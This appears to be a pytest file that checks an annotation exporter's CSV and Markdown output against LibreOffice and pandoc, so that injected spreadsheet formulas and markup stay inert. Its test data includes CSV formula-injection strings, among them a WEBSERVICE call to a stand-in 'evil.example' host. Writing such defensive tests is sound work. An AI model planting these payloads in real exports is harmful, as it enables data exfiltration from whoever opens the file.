"""What other programs make of an export: a spreadsheet, a citation processor."""

import csv
import json
import shutil
import subprocess
import zipfile
from io import StringIO
from pathlib import Path

import pytest

from annotations.export.formats import FORMATS, FormatOptions
from annotations.export.quote import Quote, to_single_line
from tests.unit.annotations.export.quotes import but
from tests.unit.annotations.export.test_formats import HOSTILE
from tests.unit.annotations.export.test_table import FORMULAS

pytestmark = pytest.mark.journey


def needs(program: str) -> pytest.MarkDecorator:
    return pytest.mark.skipif(not shutil.which(program), reason=f"{program} is not installed")


def written(folder: Path, name: str, format: str, format_options: FormatOptions, *quotes: Quote) -> Path:
    path = folder / name
    path.write_text("".join(FORMATS[format](quotes, format_options)), encoding="utf-8")
    return path


def evil_quotes() -> list[Quote]:
    texts = [*FORMULAS, '=WEBSERVICE("http://evil.example")', "=1+1;=2+2", "a\t=1", 'x"\n=1+1', *HOSTILE]
    return [
        but(id=f"q{number}", note=text, title=text, speaker=text, via=text, coder=text, themes=(text,))
        for number, text in enumerate(texts)
    ]


@needs("soffice")
@pytest.mark.parametrize("raw", [False, True], ids=["guarded", "raw"])
def test_a_spreadsheet_finds_no_formula_in_a_table(tmp_path: Path, raw: bool) -> None:
    table = written(tmp_path, "quotes.csv", "csv", FormatOptions(raw=raw), *evil_quotes())
    command = [
        "soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--infilter=CSV:44,34,76,1",
        "--convert-to", "ods", "--outdir", str(tmp_path), str(table),
    ]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    content = zipfile.ZipFile(tmp_path / "quotes.ods").read("content.xml").decode()
    assert ("table:formula" in content) is raw, "a raw table must have live formulas, or this shows nothing"
    assert "the flow of fentanyl" in content


@needs("pandoc")
def test_pandoc_fills_the_citations_in_from_the_bibliography(tmp_path: Path) -> None:
    known = but(citekey="swanson2024xi", author="Swanson, Ana", url="https://nyt.example/xi")
    other = but(
        article="002.txt", citekey="a.b:c", author="Reuters", outlet="", published="2024", id="7", paragraph=None
    )
    bibliography = written(tmp_path, "quotes.csl.json", "csl", FormatOptions(), known, other)
    assert len(json.loads(bibliography.read_bytes())) == 2
    text = written(tmp_path, "quotes.md", "markdown", FormatOptions("pandoc", closing=False), known, other)
    command = ["pandoc", "--citeproc", "--bibliography", str(bibliography), "--to", "plain", "--wrap=none", str(text)]
    done = subprocess.run(command, check=True, capture_output=True, timeout=60)
    page = done.stdout.decode()
    assert "(Swanson 2024, para. 9)" in page
    assert "(Reuters 2024)" in page
    assert "Swanson, Ana. 2024." in page
    assert "April 26" in page
    assert done.stderr == b""


@needs("pandoc")
@pytest.mark.parametrize("style", ["plain", "chicago", "apa", "pandoc"])
def test_pandoc_sees_no_markup_in_foreign_words(tmp_path: Path, style: str) -> None:
    quotes = [
        but(quote=to_single_line(text), title=text, author=text, outlet=text, speaker=text, caution=text)
        for text in HOSTILE
    ]
    text = written(tmp_path, "quotes.md", "markdown", FormatOptions(style), *quotes)
    command = ["pandoc", "--from", "markdown", "--to", "json", str(text)]
    tree = json.loads(subprocess.run(command, check=True, capture_output=True, timeout=60).stdout)
    found: set[str] = set()

    def look(node: object) -> None:
        if isinstance(node, dict):
            found.add(str(node.get("t", "")))
        for child in node.values() if isinstance(node, dict) else node if isinstance(node, list) else ():
            look(child)

    look(tree["blocks"])
    assert not found & {
        "Link",
        "Image",
        "RawInline",
        "RawBlock",
        "Code",
        "CodeBlock",
        "Math",
        "Note",
        "Strikeout",
        "OrderedList",
    }
    assert ("Cite" in found) is (style == "pandoc")


@needs("pandoc")
def test_the_properties_of_a_note_are_metadata(tmp_path: Path) -> None:
    note = written(
        tmp_path, "note.md", "obsidian", FormatOptions(), but(title="---\n: a 'b' \"c\" #d", event="[e]: {f}")
    )
    command = ["pandoc", "--from", "markdown", "--to", "json", str(note)]
    meta = json.loads(subprocess.run(command, check=True, capture_output=True, timeout=60).stdout)["meta"]
    assert {"title", "author", "outlet", "published", "event", "tags"} == meta.keys()


def test_a_table_is_what_the_csv_module_reads() -> None:
    text = "".join(FORMATS["csv"](evil_quotes(), FormatOptions()))
    rows = list(csv.reader(StringIO(text, newline=""), strict=True))
    assert len(rows) == len(evil_quotes()) + 1
    assert len({len(row) for row in rows}) == 1
